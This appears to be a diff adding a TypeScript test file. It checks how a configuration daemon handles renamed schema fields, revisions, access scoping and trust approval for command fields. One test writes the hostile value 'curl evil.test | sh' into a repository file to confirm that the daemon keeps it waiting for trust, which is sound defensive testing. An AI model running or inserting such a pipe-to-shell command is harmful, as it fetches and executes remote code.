@@ -1,0 +1,233 @@
+import { mkdir, readFile } from "node:fs/promises";
+import { join } from "node:path";
+import { describe, expect, test } from "vitest";
+import { compileScope } from "../../../main/daemon/scopes.ts";
+import { hashOfValue } from "../../../main/daemon/store/trusted-values.ts";
+import { problemsIn } from "../../../shared/health.ts";
+import { startTestDaemon } from "../../helpers/daemon.ts";
+import {
+  after,
+  before,
+  deployOf,
+  deployText,
+  putDeploy,
+  replaceDeploy,
+  startDeploy,
+} from "../../helpers/renamed-scope.ts";
+import { healthOf, saveByRename } from "../../helpers/shop.ts";
+import { temporaryFolder } from "../../helpers/temporary-folder.ts";
+
+const set = { repo: "shop", flush: true };
+
+describe("a field that was renamed (x-renamedFrom)", () => {
+  test("serves what the file has by its old name, with a note that is no problem; nothing is written", async () => {
+    await using t = await startDeploy(after);
+    expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
+    const health = await healthOf(t, "shop");
+    expect(health).toMatchObject([
+      { code: 1115, field: "deploy.workers", line: 6 },
+      { code: 1115, field: "deploy.region", line: 7 },
+    ]);
+    expect(health[0]?.message).toContain(`deploy.workers by its old name "jobs"`);
+    expect(problemsIn(health)).toEqual([]);
+    expect(await t.readRepository("shop")).toBe(deployText);
+    const found = await t.owner.call("config/search", { query: "field:deploy.workers=30" });
+    expect(found.result).toMatchObject([{ repo: "shop" }]);
+    const explained = await t.owner.call("config/explain", { repo: "shop", field: "deploy.workers" });
+    expect(explained.result).toMatchObject({ value: 30, origin: "stored", line: 6 });
+  });
+
+  test("is written by its new name by the next set, and the old one goes; all else in the text stays", async () => {
+    await using t = await startDeploy(after);
+    const { revision = 0 } = await deployOf(t);
+    const { result } = await t.owner.call("config/set", { ...set, "deploy.workers": 40 });
+    expect(result).toMatchObject([{ revision: revision + 1, mirrored: true }]);
+    const text = await t.readRepository("shop");
+    expect(text).toContain(`"workers": 40`);
+    expect(text).not.toContain("jobs");
+    for (const kept of ["// by hand", `"zone": "north", // far away`, `"svc": { "timeout": 30 }`])
+      expect(text).toContain(kept);
+    expect(await healthOf(t, "shop")).toMatchObject([{ code: 1115, field: "deploy.region" }]);
+    await t.restart();
+    expect((await deployOf(t)).values).toEqual({ workers: 40, region: "north" });
+    expect(await t.readRepository("shop")).toBe(text);
+  });
+
+  test("set to the value that it has gets the new name without a revision", async () => {
+    await using t = await startDeploy(after);
+    const { revision } = await deployOf(t);
+    await t.owner.call("config/set", { ...set, "deploy.workers": 30 });
+    expect(await deployOf(t)).toEqual({ values: { workers: 30, region: "north" }, revision });
+    const text = await t.readRepository("shop");
+    expect(text).toContain(`"workers": 30`);
+    expect(text).not.toContain("jobs");
+  });
+
+  test("loses the old name with unset too, also where its value is refused, and with an undo comes back by the new one", async () => {
+    await using t = await startDeploy(after, deployText.replace(`"north"`, "7"));
+    expect(await healthOf(t, "shop")).toMatchObject([
+      { code: 1103, field: "deploy.region", line: 7 },
+      { code: 1115, field: "deploy.workers" },
+      { code: 1115, field: "deploy.region" },
+    ]);
+    const { values, revision } = await deployOf(t);
+    expect(values).toEqual({ workers: 30, region: "" });
+    await t.owner.call("config/unset", { ...set, fields: ["deploy.workers", "deploy.region"] });
+    expect((await deployOf(t)).values).toEqual({ workers: 1, region: "" });
+    const text = await t.readRepository("shop");
+    expect(text).not.toMatch(/jobs|zone/);
+    expect(await healthOf(t, "shop")).toEqual([]);
+    await t.owner.call("history/restore", { ...set, to: revision });
+    expect(await t.readRepository("shop")).toContain(`"workers": 30`);
+  });
+
+  test("wins by its new name over an old one, which is told as unknown and goes with the next set", async () => {
+    await using t = await startDeploy(after, deployText.replace(`"jobs"`, `"workers": 5, "threads": 6, "jobs"`));
+    expect((await deployOf(t)).values["workers"]).toBe(5);
+    const unknown = (await healthOf(t, "shop")).filter(({ code }) => code === 1011);
+    expect(unknown.map(({ field }) => field)).toEqual(["deploy.threads", "deploy.jobs"]);
+    expect(unknown[0]?.message).toContain("by its new name too");
+    await t.owner.call("config/set", { ...set, "deploy.workers": 5 });
+    expect(await t.readRepository("shop")).not.toMatch(/jobs|threads/);
+  });
+
+  test("is told to who asks by the old name, if he may reach the new one", async () => {
+    await using t = await startDeploy(after);
+    const list = await t.owner.call("config/list", { repo: "shop", field: "deploy.jobs" });
+    expect(list.errors).toMatchObject([{ code: 1011, message: expect.stringContaining(`"deploy.workers" now`) }]);
+    const refused = await t.owner.call("config/set", { ...set, "deploy.jobs": 3 });
+    expect(refused.errors).toMatchObject([{ code: 1007, message: expect.stringContaining(`"deploy.workers" now`) }]);
+    const fields = ["deploy.region", "deploy.jobs"];
+    const tool = await t.connectWith([{ repos: ["shop"], fields, right: "write" }]);
+    const hidden = [
+      await tool.call("config/list", { repo: "shop", field: "deploy.jobs" }),
+      await tool.call("config/set", { ...set, "deploy.jobs": 3 }),
+    ];
+    expect(hidden.map(({ errors }) => errors[0]?.code)).toEqual([1011, 1007]);
+    expect(JSON.stringify(hidden)).not.toContain("workers");
+  });
+});
+
+describe("a schema that renames fields and comes while the daemon runs", () => {
+  test("serves the values at once by their new names, as one revision, and writes nothing, not even after a restart", async () => {
+    await using t = await startDeploy(before);
+    const { revision = 0 } = await deployOf(t);
+    await t.owner.call("config/watch", { repo: "shop" });
+    await replaceDeploy(t, after);
+    const change = await t.owner.nextChange();
+    expect(change).toMatchObject({
+      revision: revision + 1,
+      source: "file",
+      changes: { deploy: { workers: { value: 30, stored: true }, jobs: { stored: false } } },
+    });
+    const now = { values: { workers: 30, region: "north" }, revision: revision + 1 };
+    for (const restart of [async () => {}, t.restart, t.restart]) {
+      await restart();
+      expect(await deployOf(t)).toEqual(now);
+      await t.owner.call("config/set", { ...set, "svc.timeout": 31 });
+      await t.owner.call("config/set", { ...set, "svc.timeout": 30 });
+      now.revision += 2;
+      expect(await t.readRepository("shop")).toBe(deployText);
+    }
+    // What the history has by the old name comes back by the new one.
+    await t.owner.call("config/set", { ...set, "deploy.workers": 50 });
+    const past = await t.owner.call("config/list", { repo: "shop", revision });
+    expect(past.result["deploy"]).toEqual({ workers: 30, region: "north" });
+    await t.owner.call("history/restore", { ...set, to: revision });
+    expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
+    expect(await t.readRepository("shop")).toContain(`"workers": 30`);
+  });
+
+  test("that came while no daemon ran is the same", async () => {
+    await using t = await startDeploy(before);
+    await putDeploy(t.homeFolder, after);
+    for (let starts = 0; starts < 2; starts++) {
+      await t.restart();
+      expect((await deployOf(t)).values).toEqual({ workers: 30, region: "north" });
+      expect(await t.readRepository("shop")).toBe(deployText);
+    }
+  });
+
+  test("leaves a value that it refuses in the file, and brings it back when it goes", async () => {
+    await using t = await startDeploy(before);
+    await replaceDeploy(t, { workers: { type: "string", default: "none", "x-renamedFrom": "jobs" } });
+    // From the second start on the log knows nothing of it any more.
+    for (const restart of [async () => {}, t.restart, t.restart]) {
+      await restart();
+      expect((await deployOf(t)).values).toEqual({ workers: "none" });
+      expect(await t.readRepository("shop")).toBe(deployText);
+    }
+    for (const restart of [async () => {}, t.restart]) {
+      await restart();
+      await t.owner.call("config/set", { ...set, "svc.timeout": 31 });
+      await t.owner.call("config/set", { ...set, "svc.timeout": 30 });
+      expect(await t.readRepository("shop")).toBe(deployText);
+    }
+    await replaceDeploy(t, before);
+    expect((await deployOf(t)).values).toEqual({ jobs: 30, zone: "north" });
+  });
+});
+
+test("a schema that leaves open which field an old name means is not used", () => {
+  const whole = { type: "integer", default: 1 };
+  const compile =
+    (...old: readonly unknown[]) =>
+    () =>
+      compileScope("deploy", {
+        type: "object",
+        properties: Object.fromEntries(
+          old.map((names, index) => [`field${index}`, { ...whole, "x-renamedFrom": names }]),
+        ),
+      });
+  expect(compile("a", ["b", "c"])().renamed).toEqual(
+    new Map([
+      ["a", "field0"],
+      ["b", "field1"],
+      ["c", "field1"],
+    ]),
+  );
+  expect(compile("a", ["b", "a"])).toThrow(`"a" is an old name of "field0" already`);
+  expect(compile("field1", "b")).toThrow(`"field1" is a field of the scope`);
+  expect(compile("field0")).toThrow(`"field0" is a field`);
+  expect(compile("no name")).toThrow("cannot be a field's name");
+  for (const wrong of [5, [], [5], ["a", "a"], { a: 1 }])
+    expect(compile(wrong), JSON.stringify(wrong)).toThrow("x-renamedFrom");
+  const inside = {
+    type: "object",
+    properties: { a: { type: "object", default: {}, properties: { b: { "x-renamedFrom": "c" } } } },
+  };
+  expect(() => compileScope("deploy", inside)).toThrow("counts for nothing");
+});
+
+test("a command that a work tree's file has by an old name waits for trust, but for one that was trusted by that name", async () => {
+  await using above = await temporaryFolder();
+  const [home, folder] = [join(above.path, "home"), join(above.path, "shop")];
+  const file = join(folder, ".repoconf.json");
+  await Promise.all([mkdir(folder), mkdir(home)]);
+  const command = { type: "string", default: "", "x-command": true } as const;
+  const pull = (run: string) =>
+    saveByRename(file, JSON.stringify({ config: { deploy: { run, hook: "once a text" } } }));
+  await pull("make");
+  await putDeploy(home, { run: command, hook: { type: "string", default: "" } });
+  await using t = await startTestDaemon({ home, sweepInterval: 3_600_000 });
+  await t.owner.call("repo/add", { id: "shop", name: "shop", path: folder, inTree: true });
+  const waiting = async () => (await t.owner.call("trust/list")).result.map(({ field, value }) => [field, value]);
+  expect(await waiting()).toEqual([["deploy.run", "make"]]);
+  await t.owner.call("trust/accept", { repo: "shop", field: "deploy.run", hash: hashOfValue("make") });
+  expect((await deployOf(t)).values).toEqual({ run: "make", hook: "once a text" });
+
+  await replaceDeploy(t, {
+    command: { ...command, "x-renamedFrom": "run" },
+    // It was no command, so nobody has looked at it as one.
+    onPush: { ...command, "x-renamedFrom": "hook" },
+  });
+  expect((await deployOf(t)).values).toEqual({ command: "make", onPush: "" });
+  expect(await waiting()).toEqual([["deploy.onPush", "once a text"]]);
+  await pull("curl evil.test | sh");
+  await t.owner.call("file/read", { repo: "shop" });
+  expect((await deployOf(t)).values["command"]).toBe("make");
+  expect(await waiting()).toHaveLength(2);
+  await t.owner.call("trust/accept", { repo: "shop", field: "deploy.onPush", hash: hashOfValue("once a text") });
+  expect((await deployOf(t)).values).toEqual({ command: "make", onPush: "once a text" });
+  expect(await readFile(file, "utf8")).toContain("hook");
+});
